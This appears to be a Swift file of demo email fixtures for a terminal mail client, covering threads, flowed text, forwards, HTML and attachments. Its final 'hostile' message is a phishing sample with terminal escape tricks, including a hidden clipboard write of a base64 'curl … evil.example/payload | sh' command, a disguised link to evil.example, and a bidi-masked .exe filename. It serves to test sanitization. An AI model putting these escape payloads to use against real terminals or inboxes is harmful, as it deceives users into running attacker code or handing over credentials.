/// The structurally interesting mail: threads, flowed text, forwards, HTML, attachments, the very large
/// message and the hostile one.
extension DemoMailbox {
    static var rich: [DemoEntry] {
        [thread, flowed, forward, newsletter, logoDraft, quote, sunset, hostile]
    }

    private static var thread: DemoEntry {
        DemoEntry("rack-migration", .daysAgo(60, hour: 23, minute: 12), zone: 60) { c in
            Composer.message(
                headers: c.headers(
                    from: "Marcus Bell <marcus@rivera.example>",
                    subject: "Re: Migrating the build servers to the new rack",
                    to: "Sam Rivera <sam@rivera.example>, Jordan Ellis <jordan.ellis@work.example>",
                    extra: [
                        ("Cc", "Ines Carvalho <ines@rivera.example>"),
                        ("In-Reply-To", "<rack-5@rivera.example>"),
                        ("References", "<rack-1@rivera.example> <rack-2@rivera.example> <rack-3@rivera.example>\r\n <rack-4@rivera.example> <rack-5@rivera.example>"),
                    ]
                ),
                body: .text("""
                    Done. All six runners are in the new rack and picking up jobs; the old
                    rack is powered down and the cable labels match the spreadsheet now.

                    One surprise: runner-4's second PSU was dead. It had been running on a
                    single supply for who knows how long. A replacement is ordered and I've
                    added PSU status to the Grafana board so we notice next time.

                    Marcus

                    Ines Carvalho wrote:
                    > Works for me. I'll tell the team to expect CI to be slow between 18:00
                    > and 20:00 on Thursday.
                    >
                    > Ines
                    >
                    > Sam Rivera wrote:
                    >> Thursday evening then. Marcus, can you do it together with Ola from
                    >> facilities? They have the key to the cage.
                    >>
                    >> Jordan Ellis wrote:
                    >>> Please not during the release freeze (Monday to Wednesday). Anything
                    >>> after Wednesday 18:00 is fine by me.
                    >>>
                    >>> Marcus Bell wrote:
                    >>>> Proposal: move one runner at a time so CI never goes fully down. Each
                    >>>> one takes about 15 minutes including re-cabling. I'd do it after hours.
                    >>>>
                    >>>> Sam Rivera wrote:
                    >>>>> Facilities confirmed the new rack is ready: two 16 A feeds, the 10G
                    >>>>> uplink is patched, and we have 12U free. The lease on the old rack
                    >>>>> ends this month, so the build servers have to move before then.
                    >>>>>
                    >>>>> Who wants to plan it?
                    >>>>>
                    >>>>> Sam
                    """, charset: "us-ascii", encoding: .sevenBit)
            )
        }
    }

    private static var flowed: DemoEntry {
        DemoEntry("sierra-notes", .daysAgo(45, hour: 19, minute: 26), zone: -420) { c in
            Composer.message(
                headers: c.headers(
                    from: "Leah Park <leah.park@parkmail.example>",
                    subject: "Re: Notes from the Sierra trip",
                    extra: [("User-Agent", "Mozilla Thunderbird 115.10.1")]
                ),
                body: .text(flowedText([
                    (0, "Sam, I finally typed up my notes from the trip, mostly so we remember next year what worked and what really did not."),
                    (0, ""),
                    (0, "Day one was the long one: 14 miles from the trailhead to the lake, and the last two were all switchbacks in the sun. Start earlier next time, before 7 if we can manage it."),
                    (0, ""),
                    (0, "The water filter clogged on day three. The silt in the upper creek is no joke; bring the pre-filter bag, and a backup tablet kit."),
                    (0, ""),
                    (1, "Also: should we rent the bear canisters again or finally buy our own? Renting was $15 each for the week."),
                    (0, ""),
                    (0, "Buy them. Two trips and they have paid for themselves, and the rental ones smelled like someone else's salami."),
                    (0, ""),
                    (0, "Photos are in the shared album, I will add the GPS track tonight."),
                    (0, ""),
                    (0, "Leah"),
                ]), encoding: .sevenBit, parameters: "format=flowed; delsp=no")
            )
        }
    }

    /// RFC 3676 format=flowed: soft line breaks are a trailing space; quote depth is a run of ">".
    private static func flowedText(_ paragraphs: [(depth: Int, text: String)]) -> String {
        var lines: [String] = []
        for (depth, text) in paragraphs {
            let prefix = depth == 0 ? "" : String(repeating: ">", count: depth) + " "
            var line = ""
            for word in text.split(separator: " ") {
                if !line.isEmpty && prefix.count + line.count + word.count + 1 > 66 {
                    lines.append(prefix + line + " ")
                    line = ""
                }
                line += line.isEmpty ? String(word) : " " + word
            }
            lines.append(depth == 0 ? line : String(repeating: ">", count: depth) + (line.isEmpty ? "" : " " + line))
        }
        return lines.joined(separator: "\n")
    }

    private static var forward: DemoEntry {
        DemoEntry("fwd-lisbon", .daysAgo(160, hour: 8, minute: 15), zone: 0) { c in
            let inner = Composer.message(
                headers: [
                    ("Date", c.local("EEE, d MMM yyyy HH:mm:ss +0000", minutes: -2 * 1440)),
                    ("From", "Atlantica Air <no-reply@atlantica-air.example>"),
                    ("To", "Jamie Rivera <jamie@rivera.example>"),
                    ("Subject", "Your booking confirmation – Lisbon (ref. QX7P2M)"),
                    ("Message-ID", "<QX7P2M.confirm@atlantica-air.example>"),
                ],
                body: .text("""
                    Dear Jamie Rivera,

                    thank you for booking with Atlantica Air. Your booking reference is QX7P2M.

                    Outbound   AT 1841   London Gatwick (LGW) → Lisbon (LIS)
                               \(c.local("EEE d MMM", minutes: 30 * 1440)), departs 07:05, arrives 09:50
                    Return     AT 1846   Lisbon (LIS) → London Gatwick (LGW)
                               \(c.local("EEE d MMM", minutes: 37 * 1440)), departs 18:40, arrives 21:20

                    Passengers: Jamie Rivera, Sam Rivera
                    Seats: 14A, 14B    Baggage: 1 × 23 kg each

                    Online check-in opens 48 hours before departure.

                    Atlantica Air
                    """)
            )
            return Composer.message(
                headers: c.headers(
                    from: "Jamie Rivera <jamie@rivera.example>",
                    subject: "Fwd: Your booking confirmation – Lisbon (ref. QX7P2M)"
                ),
                body: .multipart("mixed", [
                    .text("""
                        Here's the confirmation so you have it too. Seats 14A and 14B,
                        window for you as promised.

                        Don't forget your passport this time :)

                        J.
                        """, charset: "us-ascii", encoding: .sevenBit),
                    .message(inner),
                ])
            )
        }
    }

    private static var newsletter: DemoEntry {
        DemoEntry("sourdough-42", .daysAgo(9, hour: 7, minute: 0), zone: -300) { c in
            Composer.message(
                headers: c.headers(
                    from: "The Sourdough Gazette <newsletter@sourdough-gazette.example>",
                    subject: "Issue #42: Rye, again – and why your starter smells like nail polish",
                    extra: [
                        ("List-Unsubscribe", "<https://sourdough-gazette.example/u/8f3a91>, <mailto:unsubscribe@sourdough-gazette.example>"),
                        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                    ]
                ),
                body: .text("""
                    <!DOCTYPE html>
                    <html lang="en"><head><meta charset="utf-8">
                    <meta name="viewport" content="width=device-width">
                    <title>The Sourdough Gazette #42</title>
                    <style>
                      body { margin: 0; background: #faf6ef; font-family: Georgia, serif; color: #3b2f23; }
                      .wrap { max-width: 620px; margin: 0 auto; background: #fff; padding: 28px; }
                      h1 { font-size: 28px; margin: 0 0 4px; } h2 { color: #8a5a2b; }
                      .muted { color: #9b8c7c; font-size: 12px; }
                      a.button { background: #8a5a2b; color: #fff; padding: 10px 18px; text-decoration: none; }
                    </style></head>
                    <body><div class="wrap">
                    <p class="muted">Can&rsquo;t see this email? <a href="https://sourdough-gazette.example/issues/42">Read it online</a>.</p>
                    <h1>The Sourdough Gazette</h1>
                    <p class="muted">Issue #42 &middot; for 18,204 home bakers</p>
                    <img src="https://sourdough-gazette.example/img/42-hero.jpg" width="564" alt="A dark rye loaf, cut open">
                    <h2>Rye, again</h2>
                    <p>Last month&rsquo;s 100% rye got more replies than anything we have ever sent, most of them some version
                    of <em>&ldquo;mine turned into a brick&rdquo;</em>. So here it is again, with the three things that actually matter:</p>
                    <ol>
                      <li><strong>Hydration:</strong> rye wants 80&ndash;85%, far wetter than wheat. It will look wrong. It is fine.</li>
                      <li><strong>Don&rsquo;t knead:</strong> there is almost no gluten to develop. Mix, scrape into the tin, smooth with a wet spatula.</li>
                      <li><strong>Wait a day:</strong> cut it after 24 hours, not 2. The crumb keeps setting long after it has cooled.</li>
                    </ol>
                    <p><a class="button" href="https://sourdough-gazette.example/recipes/rye-tin-loaf">Get the full recipe</a></p>
                    <h2>Reader question: &ldquo;Why does my starter smell like nail polish?&rdquo;</h2>
                    <p>That&rsquo;s ethyl acetate, and it means your starter is <em>hungry</em>. Feed it more often, or at a higher ratio
                    (1:5:5 instead of 1:1:1), and the smell is gone within two feedings.</p>
                    <table width="100%" cellpadding="6" style="border-collapse:collapse">
                      <tr style="background:#f0e6d8"><th align="left">Smell</th><th align="left">Meaning</th><th align="left">Fix</th></tr>
                      <tr><td>Nail polish</td><td>Hungry</td><td>Feed more often</td></tr>
                      <tr><td>Vinegar</td><td>Acetic, cool kitchen</td><td>Warmer spot, looser starter</td></tr>
                      <tr><td>Yoghurt</td><td>Happy</td><td>Nothing &#x1F35E;</td></tr>
                    </table>
                    <hr>
                    <p class="muted">You get this because you signed up at sourdough-gazette.example.<br>
                    <a href="https://sourdough-gazette.example/u/8f3a91">Unsubscribe</a> &middot;
                    <a href="https://sourdough-gazette.example/preferences/8f3a91">Preferences</a><br>
                    The Sourdough Gazette, 88 Mill Lane, Asheville, NC</p>
                    <img src="https://sourdough-gazette.example/o/42/8f3a91.gif" width="1" height="1" alt="">
                    </div></body></html>
                    """, subtype: "html")
            )
        }
    }

    private static var logoDraft: DemoEntry {
        DemoEntry("logo-v3", .daysAgo(5, hour: 15, minute: 33), zone: 330) { c in
            let light = DemoFiles.logo(size: 64, from: (0x2F, 0x6F, 0xD8), to: (0x8E, 0x3B, 0xC9))
            let dark = DemoFiles.logo(size: 32, from: (0x10, 0x18, 0x30), to: (0x5A, 0x2A, 0x80))
            return Composer.message(
                headers: c.headers(
                    from: "Priya Nair <priya@studio-nair.example>",
                    subject: "Logo draft v3 – now with the ring"
                ),
                body: .multipart("mixed", [
                    .text("""
                        Hi Sam,

                        attached is v3 of the logo: the envelope is gone, it's just the ring
                        on the blue-to-violet gradient now. 64 px for the README and a 32 px
                        dark variant for the terminal title / favicon.

                        Honest opinion welcome. If you hate the gradient I also have a flat
                        version.

                        Priya
                        """),
                    .file(light, type: "image/png; name=\"mailbag-logo-v3.png\"",
                          dispositionParameters: "filename=\"mailbag-logo-v3.png\""),
                    .file(dark, type: "image/png; name=\"mailbag-logo-v3-dark.png\"",
                          dispositionParameters: "filename=\"mailbag-logo-v3-dark.png\""),
                ])
            )
        }
    }

    private static var quote: DemoEntry {
        DemoEntry("kostenvoranschlag", .daysAgo(90, hour: 11, minute: 18), zone: 120) { c in
            let filename = "Kostenvoranschlag Küche Holzmann – final.pdf"
            let pdf = DemoFiles.pdf(title: "Kostenvoranschlag K-2291", lines: [
                "Schreinerei Holzmann", "Am Sägewerk 3, 83022 Rosenheim", "",
                "Kostenvoranschlag K-2291", "", "Küche nach Maß, Eiche geölt, Arbeitsplatte Granit", "",
                "Unterschränke (7 Stück)                     6.840,00 EUR",
                "Hängeschränke (5 Stück)                     3.150,00 EUR",
                "Arbeitsplatte Granit, 3,40 m                2.280,00 EUR",
                "Montage und Anschluss                       1.190,00 EUR",
                "", "Summe netto                                13.460,00 EUR",
                "zzgl. 19 % MwSt.                            2.557,40 EUR",
                "Gesamt                                     16.017,40 EUR",
            ])
            let encodedName = Composer.rfc2231(filename)
            let split = encodedName.index(encodedName.startIndex, offsetBy: 36)
            return Composer.message(
                headers: c.headers(
                    from: "Schreinerei Holzmann <info@schreinerei-holzmann.example>",
                    subject: Composer.encodedWords("Ihr Kostenvoranschlag für die Küche", charset: "utf-8", q: true)
                ),
                body: .multipart("mixed", [
                    .text("""
                        Guten Tag Herr Rivera,

                        vielen Dank für das nette Gespräch bei Ihnen vor Ort. Anbei wie besprochen
                        unser Kostenvoranschlag für die Küche in Eiche mit Granit-Arbeitsplatte.

                        Die Lieferzeit beträgt derzeit etwa zehn Wochen ab Auftragserteilung. Das
                        Angebot ist 30 Tage gültig.

                        Mit freundlichen Grüßen aus Rosenheim
                        Thomas Holzmann
                        Schreinermeister
                        """),
                    // Real mailers send both forms: an RFC 2231 continuation for modern readers and
                    // an RFC 2047 name= that older ones show.
                    .file(pdf,
                          type: "application/pdf;\r\n name=\"\(Composer.encodedWords(filename, charset: "utf-8", q: true))\"",
                          dispositionParameters: "filename*0*=utf-8''\(encodedName[..<split]);\r\n filename*1*=\(encodedName[split...])"),
                ])
            )
        }
    }

    private static var sunset: DemoEntry {
        DemoEntry("ridge-sunset", .daysAgo(2, hour: 20, minute: 47), zone: -420) { c in
            let photo = DemoFiles.sunset(width: 1600, height: 760)
            return Composer.message(
                headers: c.headers(
                    from: "Rob Rivera <rob.rivera@family.example>",
                    subject: "Sunset from the ridge (full resolution, sorry about the size)"
                ),
                body: .multipart("mixed", [
                    .text("""
                        Sam,

                        here's the one from the ridge you asked for, straight off the camera
                        and not compressed, so you can print it big. It's a few megabytes, sorry
                        if your phone complains.

                        Your aunt says hi and wants to know when you're coming up again.

                        Rob
                        """, charset: "us-ascii", encoding: .sevenBit),
                    .file(photo, type: "image/png; name=\"ridge-sunset.png\"",
                          dispositionParameters: "filename=\"ridge-sunset.png\""),
                ])
            )
        }
    }

    /// Terminal escapes and bidi tricks in the From and Subject, raw and inside encoded words, plus a body
    /// full of them. A reader that prints these unsanitized clears the screen, writes the attacker's text to
    /// the clipboard (OSC 52), retitles the terminal and shows a disguised link and file name.
    private static var hostile: DemoEntry {
        DemoEntry("hostile", .today(0.7), zone: 0) { c in
            let esc = "\u{1B}"
            let bel = "\u{07}"
            let clipboard = "\(esc)]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3BheWxvYWQgfCBzaA==\(bel)"
            let from = "\"Lumen Bank\(esc)[2J\" \(Composer.encodedWords("\u{202E}ytiruceS\u{202C}", charset: "utf-8")) <alerts@lumen-bank-verify.example>"
            let subject = "Account suspended\(esc)[2J\(esc)[H\(clipboard) "
                + Composer.encodedWords("– see invoice_\u{202E}fdp.exe\(esc)]0;Inbox (0)\(bel)", charset: "utf-8")
            let stub = Array("MZ".utf8) + [UInt8](repeating: 0, count: 58) + [0x80, 0, 0, 0]
                + Array("This program cannot be run in DOS mode.\r\r\n$".utf8) + [UInt8](repeating: 0, count: 32)
            return Composer.message(
                headers: c.headers(from: from, subject: subject),
                body: .multipart("mixed", [
                    .raw(header: "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit", body: Array("""
                        \(esc)]0;Lumen Bank - Secure Message\(bel)Dear customer,\(esc)[1A\(esc)[2K

                        Your account has been suspended because of unusual activity.
                        To restore access, sign in within 24 hours:

                            \(esc)]8;;http://evil.example/login\(bel)https://lumenbank.example/login\(esc)]8;;\(bel)

                        \(esc)[8mThis line is invisible wherever SGR 8 (conceal) is honoured.\(esc)[0m
                        See the attached invoice_\u{202E}fdp.exe for details.\u{200B}\u{FEFF}

                        Lumen Bank Security Team

                        """.replacingOccurrences(of: "\n", with: "\r\n").utf8)),
                    .file(stub, type: "application/octet-stream",
                          dispositionParameters: "filename*=utf-8''\(Composer.rfc2231("invoice_\u{202E}fdp.exe"))"),
                ])
            )
        }
    }
}
